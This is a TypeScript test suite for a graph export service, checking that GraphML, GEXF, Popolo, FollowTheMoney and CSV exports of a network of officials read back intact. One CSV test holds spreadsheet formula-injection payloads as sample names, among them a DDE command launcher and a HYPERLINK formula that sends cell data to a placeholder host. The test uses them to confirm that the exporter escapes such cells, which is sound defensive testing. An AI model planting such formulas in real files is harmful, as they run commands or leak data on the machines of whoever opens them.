import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { MultiDirectedGraph } from 'graphology';
import { parse as parseGexf } from 'graphology-gexf';
import { parse as parseGraphml } from 'graphology-graphml';
import countries from 'i18n-iso-countries/index.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { projectPath } from '../../src/project-root.js';
import { type ExportFormat, exportGraph, readExportNetwork } from '../../src/services/export.service.js';
import { useSeededGraph } from '../helpers/graph-fixtures.js';
import { resetGraph } from '../helpers/test-db.js';

const graph = useSeededGraph();

const ISO_ALPHA_2 = new Set(Object.keys(countries.getAlpha2Codes()));

/** The graph's own counts of what the network formats hold: entities but sources, relationships between them. */
async function graphCounts() {
  const [row] = await graph.t.db.read<{ nodes: number; edges: number; meetings: number; pairs: number }>(`
    CALL () { MATCH (n:Entity) WHERE NOT n:Source RETURN count(n) AS nodes }
    CALL () { MATCH (a:Entity)-[r]->(b:Entity) WHERE NOT a:Source AND NOT b:Source RETURN count(r) AS edges }
    CALL () { MATCH (m:Meeting) RETURN count(m) AS meetings }
    CALL () {
      MATCH (a:Person)-[:ATTENDED]->(:Meeting)<-[:ATTENDED]-(b:Person) WHERE a.id < b.id
      RETURN count(DISTINCT [a.id, b.id]) AS pairs
    }
    RETURN nodes, edges, meetings, pairs`);
  return row!;
}

const body = async (format: ExportFormat, meetings?: 'nodes' | 'edges') =>
  (await exportGraph(graph.t.db, format, { meetings })).files[0]!.body;

function writeTemp(name: string, text: string): string {
  const file = join(mkdtempSync(join(tmpdir(), 'officials-export-')), name);
  writeFileSync(file, text);
  return file;
}

/** networkx, the Python network library, reading the file: its node and edge counts. */
function networkxCounts(reader: 'read_graphml' | 'read_gexf', file: string): { nodes: number; edges: number } {
  const out = execFileSync('python3', [
    '-c',
    [
      'import json, sys, networkx as nx',
      `g = nx.${reader}(sys.argv[1])`,
      'print(json.dumps({"nodes": g.number_of_nodes(), "edges": g.number_of_edges()}))',
    ].join('\n'),
    file,
  ]);
  return JSON.parse(out.toString());
}

/** The GraphML and GEXF exports as graphology parses them, and the counts networkx reads from the same files. */
async function readBackNetworks() {
  const readers = [
    ['graphml', 'read_graphml', parseGraphml],
    ['gexf', 'read_gexf', parseGexf],
  ] as const;
  return Promise.all(
    readers.map(async ([format, reader, parse]) => {
      const text = await body(format);
      return { format, parsed: parse(MultiDirectedGraph, text), networkx: networkxCounts(reader, writeTemp(`read-back.${format}`, text)) };
    }),
  );
}

describe('exports other tools read', () => {
  it('GraphML and GEXF: graphology and networkx read as many nodes and edges as the graph holds', async () => {
    const counts = await graphCounts();
    for (const { format, parsed, networkx } of await readBackNetworks()) {
      expect([parsed.order, parsed.size], format).toEqual([counts.nodes, counts.edges]);
      expect(parsed.getNodeAttributes('person-subhan-bekirov')).toMatchObject({ label: 'Subhan Bekirov', kind: 'Person' });
      expect(networkx, format).toEqual({ nodes: counts.nodes, edges: counts.edges });
    }
  });

  it('folds meetings into person-person edges weighted by the meetings shared, when asked', async () => {
    const counts = await graphCounts();
    const parsed = parseGexf(MultiDirectedGraph, await body('gexf', 'edges'));
    const met = parsed.filterEdges((_edge, attributes) => attributes.type === 'MET');
    expect(met).toHaveLength(counts.pairs);
    expect(parsed.hasNode('meeting-2021-06-bekirov-niazi')).toBe(false);
    const bekirovNiazi = parsed.edges('person-amjad-khan-niazi', 'person-subhan-bekirov');
    expect(bekirovNiazi.map((e) => parsed.getEdgeAttributes(e))).toEqual([expect.objectContaining({ type: 'MET', weight: 1 })]);
    expect(networkxCounts('read_graphml', writeTemp('f.graphml', await body('graphml', 'edges'))).nodes).toBe(
      counts.nodes - counts.meetings,
    );
  });

  it('Popolo: valid against the Popolo schemas, with memberships from tenures and sources as links', async () => {
    const popolo = JSON.parse(await body('popolo'));
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    (addFormats as unknown as (a: Ajv2020) => void)(ajv);
    const validate = ajv.compile(JSON.parse(readFileSync(projectPath('tests', 'fixtures', 'popolo', 'popolo.schema.json'), 'utf8')));
    expect(validate(popolo), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
    expect(popolo.persons).toHaveLength(6);
    const alvi = popolo.memberships.find((m: any) => m.id === 'tenure-alvi-pk-president');
    expect(alvi).toMatchObject({ person_id: 'person-arif-alvi', post_id: 'post-pk-president', start_date: '2018-09-09' });
    expect(popolo.persons.every((p: any) => p.sources.length > 0)).toBe(true);
    const talks = popolo.events.find((e: any) => e.id === 'meeting-2021-06-bekirov-niazi');
    expect(talks.attendees.map((a: any) => a.id).sort()).toEqual(['person-amjad-khan-niazi', 'person-subhan-bekirov']);
  });

  it("FollowTheMoney: each entity has its schema's required properties, and every reference resolves", async () => {
    const entities = (await body('ftm'))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { id: string; schema: string; properties: Record<string, string[]> });
    // Required properties from followthemoney/schema/*.yaml: Thing (so Person, Organization, Position, Document,
    // Event) requires name; Occupancy requires holder and post.
    const required: Record<string, string[]> = {
      Person: ['name'],
      Organization: ['name'],
      Position: ['name'],
      Document: ['name'],
      Event: ['name'],
      Occupancy: ['holder', 'post'],
    };
    const byId = new Map(entities.map((e) => [e.id, e]));
    expect(byId.size).toBe(entities.length);
    const ranges: Record<string, string> = {
      holder: 'Person',
      post: 'Position',
      involved: 'Person',
      proof: 'Document',
      organization: 'Organization',
    };
    for (const entity of entities) {
      expect(Object.keys(required), entity.schema).toContain(entity.schema);
      for (const property of required[entity.schema]!)
        expect(entity.properties[property]?.length, `${entity.id} ${property}`).toBeGreaterThan(0);
      for (const [property, schema] of Object.entries(ranges)) {
        for (const id of entity.properties[property] ?? []) expect(byId.get(id)?.schema, `${entity.id} ${property} ${id}`).toBe(schema);
      }
    }
    expect(byId.get('person-subhan-bekirov')!.properties).toMatchObject({
      nationality: ['az'],
      alias: expect.arrayContaining(['Subhan Bakirov']),
    });
    expect(entities.filter((e) => e.schema === 'Occupancy')).toHaveLength(6);
  });

  describe('whatever the graph holds', () => {
    /** People written straight into the graph, past ingest's validation, each supported by a source of its own. */
    async function withPeople(people: { id: string; name: string; country?: string }[], work: () => Promise<void>) {
      await graph.t.db.write(
        `CREATE (s:Entity:Source {id: 'source-hostile', title: 'Hostile names', publisher: 'Test', published: '2024'})
         WITH s UNWIND $people AS person
         CREATE (p:Entity:Person {id: person.id, name: person.name})-[:SUPPORTED_BY {paragraph: 1, note: 'x'}]->(s)
         FOREACH (code IN CASE WHEN person.country IS NULL THEN [] ELSE [person.country] END |
           MERGE (c:Entity:Country {id: code}) ON CREATE SET c.name = 'Country ' + code, c.hostile = true
           CREATE (p)-[:CITIZEN_OF]->(c))`,
        { people },
      );
      try {
        await work();
      } finally {
        await graph.t.db.write(`MATCH (n:Entity) WHERE n.id = 'source-hostile' OR n.id IN $ids OR n.hostile DETACH DELETE n`, {
          ids: people.map((p) => p.id),
        });
      }
    }

    it('GraphML and GEXF stay well-formed with characters XML 1.0 forbids in a name', async () => {
      await withPeople([{ id: 'person-nonchar', name: 'Nonchar \uffff\ufffe end\u0001 \u001b.' }], async () => {
        const counts = await graphCounts();
        for (const { format, parsed, networkx } of await readBackNetworks()) {
          expect(parsed.getNodeAttributes('person-nonchar').label, format).toBe('Nonchar  end .');
          expect(networkx, format).toEqual({ nodes: counts.nodes, edges: counts.edges });
        }
      });
    });

    it('CSV: a cell a spreadsheet would take for a formula starts with a quote, and reads back so', async () => {
      const names = [
        "=cmd|' /C calc'!A0",
        '+SUM(1+1)*cmd',
        '@SUM(1)',
        '-2+3',
        '\tTabbed',
        '\rReturned',
        '=HYPERLINK("http://x.example/?a="&A1,"c")',
      ];
      const people = names.map((name, i) => ({ id: `person-formula-${i}`, name }));
      await withPeople(people, async () => {
        const csv = (await exportGraph(graph.t.db, 'csv')).files.find((f) => f.name === 'nodes-Person.csv')!.body;
        const rows = JSON.parse(
          execFileSync('python3', [
            '-c',
            'import csv, json, sys; print(json.dumps(list(csv.DictReader(open(sys.argv[1], newline="")))))',
            writeTemp('p.csv', csv),
          ]).toString(),
        ) as Record<string, string>[];
        const byId = new Map(rows.map((row) => [row.id, row]));
        for (const person of people) expect(byId.get(person.id)?.name, person.name).toBe(`'${person.name}`);
        expect(byId.get('person-subhan-bekirov')?.name).toBe('Subhan Bekirov');
      });
    });

    it('FollowTheMoney: only ISO 3166-1 country codes, whatever ids the countries have', async () => {
      const people = [
        { id: 'person-from-x000', name: 'Nowhere One', country: 'x000' },
        { id: 'person-from-qq', name: 'Nowhere Two', country: 'QQ' },
      ];
      await withPeople(people, async () => {
        const entities = (await body('ftm'))
          .trim()
          .split('\n')
          .map((line) => JSON.parse(line) as { id: string; properties: Record<string, string[]> });
        const byId = new Map(entities.map((e) => [e.id, e]));
        for (const person of people) expect(byId.get(person.id)?.properties.nationality, person.id).toBeUndefined();
        expect(byId.get('person-subhan-bekirov')?.properties.nationality).toEqual(['az']);
        const codes = entities.flatMap((e) => [...(e.properties.nationality ?? []), ...(e.properties.country ?? [])]);
        expect(codes.length).toBeGreaterThan(0);
        expect(codes.filter((code) => !ISO_ALPHA_2.has(code.toUpperCase()))).toEqual([]);
      });
    });
  });

  describe('CSV', () => {
    let server: Server;
    let files: Map<string, string>;
    beforeAll(async () => {
      files = new Map((await exportGraph(graph.t.db, 'csv')).files.map((f) => [f.name, f.body]));
      server = createServer((req, res) => {
        const text = files.get((req.url ?? '').slice(1));
        res.writeHead(text === undefined ? 404 : 200, { 'content-type': 'text/csv' });
        res.end(text ?? '');
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    });
    afterAll(async () => new Promise<void>((resolve) => server.close(() => resolve())));

    it('loads back with LOAD CSV into an empty database, giving the same counts', async () => {
      const before = await graphCounts();
      const network = await readExportNetwork(graph.t.db);
      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      await resetGraph(graph.t.db);
      for (const name of files.keys()) {
        const label = /^nodes-(\w+)\.csv$/.exec(name)?.[1];
        if (label)
          await graph.t.db.write(`LOAD CSV WITH HEADERS FROM $url AS row CREATE (n:Entity:${label}) SET n = row`, {
            url: `${base}/${name}`,
          });
      }
      for (const name of files.keys()) {
        const type = /^relationships-(\w+)\.csv$/.exec(name)?.[1];
        if (type) {
          await graph.t.db.write(
            `LOAD CSV WITH HEADERS FROM $url AS row MATCH (a:Entity {id: row.from}), (b:Entity {id: row.to})
             CREATE (a)-[r:${type}]->(b) SET r = row`,
            { url: `${base}/${name}` },
          );
        }
      }
      const after = await graphCounts();
      expect({ nodes: after.nodes, edges: after.edges }).toEqual({ nodes: before.nodes, edges: before.edges });
      expect(network.nodes.length).toBe(before.nodes);
    });
  });
});
